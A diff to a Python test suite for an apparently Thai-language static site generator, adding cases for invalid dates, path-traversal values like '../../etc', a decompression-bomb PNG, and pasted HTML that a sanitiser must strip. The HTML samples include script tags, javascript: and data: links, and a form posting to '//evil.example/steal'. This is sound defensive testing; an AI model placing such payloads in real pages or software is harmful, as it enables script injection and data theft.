@@ -46,16 +46,17 @@ class Case:
 HUGE = post("ข่าวยาวมาก", body="ความโปร่งใส " * 200_000)
 
 
-def photo(size=(64, 48), gps=False) -> bytes:
-    """A small generated JPEG, with a phone's camera model and GPS position when `gps`."""
+def photo(size=(64, 48), gps=False, camera=False) -> bytes:
+    """A small generated JPEG, with a phone's camera model (and GPS position when `gps`)."""
     import io
 
     from PIL import Image
 
     image = Image.new("RGB", size, (40, 90, 160))
     exif = Image.Exif()
-    if gps:
+    if gps or camera:
         exif[0x010F] = "SamplePhone"
+    if gps:
         exif[0x8825] = {1: "N", 2: (13.0, 45.0, 51.3), 3: "E", 4: (100.0, 33.0, 55.8)}
     out = io.BytesIO()
     image.save(out, "JPEG", exif=exif)
@@ -69,6 +70,32 @@ def foreign_image(case_id: str, body: str, line: int = 9, **extra) -> "Case":
         f"ข่าวรูปจากเว็บอื่น {case_id}", extra=f"Slug: {slug}\n", body=BODY + "\n" + body + "\n")},
         "warning", f"news/{slug}.md", ("another site",), line=line, page=f"news/{slug}/index.html",
         absent=("evil.example",), **extra)
+
+def pasted(case_id: str, body: str, says: tuple, absent: tuple = ("evil.example",), line: int = 9) -> "Case":
+    """A post with HTML pasted from another site or a word processor that the sanitiser must clean."""
+    slug = f"pasted-{case_id}"
+    return Case(slug, {f"news/{slug}.md": post(
+        f"ข่าวมี HTML วางมา {case_id}", extra=f"Slug: {slug}\n", body=BODY + "\n" + body + "\n")},
+        "warning", f"news/{slug}.md", says, line=line, page=f"news/{slug}/index.html", absent=absent)
+
+
+def bomb_png() -> bytes:
+    """A tiny PNG whose header claims 20,000 x 20,000 pixels (a decompression bomb)."""
+    import io
+    import struct
+    import zlib
+
+    from PIL import Image
+
+    buf = io.BytesIO()
+    Image.new("L", (8, 8)).save(buf, "PNG")
+    data = bytearray(buf.getvalue())
+    ihdr = bytearray(data[16:29])
+    ihdr[0:8] = struct.pack(">II", 20000, 20000)
+    data[16:29] = ihdr
+    data[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + bytes(ihdr)) & 0xFFFFFFFF)
+    return bytes(data)
+
 
 ERROR_CASES = [
     Case("tis620", {"news/tis620.md": post("ข่าวรหัสเก่า").encode("cp874")}, "error",
@@ -172,6 +199,42 @@ ERROR_CASES = [
         "    " * i + "- ข้อ\n" for i in range(500)))}, "error", "news/nested.md", ("nested",), line=22),
     Case("nested-quote", {"news/quotes.md": post("ข่าวอ้างอิงซ้อน", body="> " * 400 + "ข้อความ\n")},
          "error", "news/quotes.md", ("nested",), line=6),
+    Case("not-leap-year", {"news/leap.md": post("ข่าววันที่ 29 ก.พ.", date="Date: 2566-02-29 09:00\n")},
+         "error", "news/leap.md", ("2566-02-29",), line=2),
+    Case("dmy-impossible", {"news/dmy.md": post("ข่าววันที่ผิดรูป", date="Date: 32/13/2565\n")},
+         "error", "news/dmy.md", ("32/13/2565",), line=2),
+    Case("empty-category", {"news/empty-category.md": "Title: ข่าวไม่มีหมวด\n" + DATE
+                            + "Category:\nSummary: สรุป\n\n" + BODY},
+         "error", "news/empty-category.md", ("category",)),
+    Case("category-typo", {"news/category-typo.md": "Title: ข่าวหมวดพิมพ์ผิด\n" + DATE
+                           + "Category: ข่าวกิจกรม\nSummary: สรุป\n\n" + BODY},
+         "error", "news/category-typo.md", ("ข่าวกิจกรม", "ข่าวกิจกรรม"), line=3),
+    Case("gallery-traversal", {"news/gallery-up.md": post("ข่าวแกลเลอรีนอกโฟลเดอร์", extra="Gallery: ../../etc\n")},
+         "error", "news/gallery-up.md", ("../../etc",), line=5),
+    Case("gallery-absolute", {"news/gallery-abs.md": post("ข่าวแกลเลอรีทางเต็ม", extra="Gallery: /etc\n")},
+         "error", "news/gallery-abs.md", ("/etc",), line=5),
+    Case("save-as-backslash", {"pages/backslash.md": "Title: ทางย้อน\nSave_as: ..\\..\\x.html\n\nข้อความ\n"},
+         "error", "pages/backslash.md", ("outside the site",), line=2),
+    Case("template-with-extension", {"news/template-ext.md": post("ข่าวแม่แบบมีนามสกุล",
+                                                                  extra="Template: article.html\n")},
+         "error", "news/template-ext.md", ("article.html",), line=5),
+    Case("filename-outside", {"news/up-readme.md": post("ข่าวลิงก์ไฟล์นอก", body="[อ่าน]({filename}/../README.md)\n")},
+         "error", "news/up-readme.md", ("outside the content folder",), line=6),
+    Case("md-link-without-filename", {"news/md-link.md": post("ข่าวลิงก์ไฟล์ต้นฉบับ", body="[ข่าว](ok.md)\n")},
+         "error", "news/md-link.md", ("source file",), line=6),
+    Case("tag-link-unknown", {"news/tag-link.md": post("ข่าวลิงก์ป้ายไม่มี", body="[ป้าย]({tag}ไม่มีป้ายนี้)\n")},
+         "error", "news/tag-link.md", ("ไม่มีป้ายนี้",), line=6),
+    Case("html-page-untitled", {"pages/plain.html": "<html><head></head><body><p>หน้าไม่มีชื่อ</p></body></html>"},
+         "error", "pages/plain.html", ("<title>",)),
+    Case("captions-tis620", {
+        "news/captions-old.md": post("ข่าวคำบรรยายรหัสเก่า", extra="Gallery: captions-old\n"),
+        "galleries/captions-old/p1.jpg": photo(),
+        "galleries/captions-old/captions.txt": "p1.jpg: ภาพกิจกรรม\n".encode("cp874"),
+    }, "error", "galleries/captions-old/captions.txt", ("UTF-8",)),
+    Case("photo-bomb", {
+        "news/bomb.md": post("ข่าวภาพพิกเซลมหาศาล", extra="Gallery: bomb\n"),
+        "galleries/bomb/p1.png": bomb_png(),
+    }, "any", ("galleries/bomb/p1.png", "news/bomb.md"), ("p1.png",)),
     # A link that leads nowhere is an ERROR for `invoke check` and every build alike: the file is
     # not published (the live preview keeps its last good version).
     Case("missing-page", {"news/missing-page.md": post("ข่าวลิงก์เสีย", extra="Slug: missing-page\n",
@@ -284,6 +347,28 @@ WARN_CASES = [
     }, None, "news/thai-photo-names.md", page="news/thai-photo-names/index.html",
         present=("ภาพกิจกรรม-1",), absent=("ภาพ-ก-จกรรม",)),
     Case("folder-named-md", {"news/folder.md/note.txt": "ไม่ใช่ข่าว"}, None, "news/folder.md"),
+    pasted("summary-free-script", "<script src=\"//evil.example/a.js\"></script>", ("scripts",)),
+    pasted("reference-javascript", "[ลงทะเบียน][1]\n\n[1]: javascript:alert(1)", ("unsafe links",),
+           absent=("javascript:",), line=11),
+    pasted("data-html-link", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">เปิด</a>',
+           ("unsafe links",), absent=("data:text",)),
+    pasted("srcset", '<img src="/theme/img/favicon.svg" srcset="//evil.example/a.png 2x" alt="ภาพ">', ("srcset",)),
+    pasted("svg-image", '<svg><image href="//evil.example/a.png"/></svg>', ("svg",)),
+    pasted("stylesheet", '<link rel="stylesheet" href="//evil.example/a.css">', ("link",)),
+    pasted("object", '<object data="//evil.example/a.swf"></object>', ("object",)),
+    pasted("embed", '<embed src="//evil.example/a.swf">', ("embed",)),
+    pasted("video-poster", '<video poster="//evil.example/a.png" src="//evil.example/a.mp4"></video>', ("video",)),
+    pasted("style-url", '<p style="background:url(//evil.example/a.png)">ข้อความ</p>', ("inline styles",)),
+    pasted("base-href", '<base href="//evil.example/">', ("base",)),
+    pasted("meta-refresh", '<meta http-equiv="refresh" content="0;url=//evil.example/">', ("meta",)),
+    pasted("form", '<form action="//evil.example/steal"><input name="q"></form>', ("form",)),
+    pasted("audio", '<audio src="//evil.example/a.mp3"></audio>', ("audio",)),
+    Case("static-photo-camera", {
+        "news/static-photo.md": post("ข่าวมีภาพจากโทรศัพท์", extra="Slug: static-photo\n",
+                                     body="![ภาพประชุม]({static}/images/phone.jpg)\n"),
+        "images/phone.jpg": photo(camera=True),
+    }, "warning", "images/phone.jpg", ("camera",), page="news/static-photo/index.html",
+        present=("/images/phone.jpg",)),
     Case("balanced-brackets", {"news/balanced.md": post(
         "ข่าววงเล็บครบคู่", extra="Slug: balanced\n", body="[ลิงก์](/news/ok/) " * 40 + "\n")},
         None, "news/balanced.md", page="news/balanced/index.html", present=("ลิงก์",)),
@@ -520,6 +605,10 @@ def foreign_references(html_text: str, page_url: str) -> list[str]:
         if target.host != "127.0.0.1:8000":
             found.append(url)
     return found
+
+
+def test_the_catalogue_counts_at_least_100_bad_inputs():
+    assert len(ERROR_CASES) + len(WARN_CASES) >= 100, len(ERROR_CASES) + len(WARN_CASES)
 
 
 @pytest.mark.parametrize("which", ["error", "warn"])
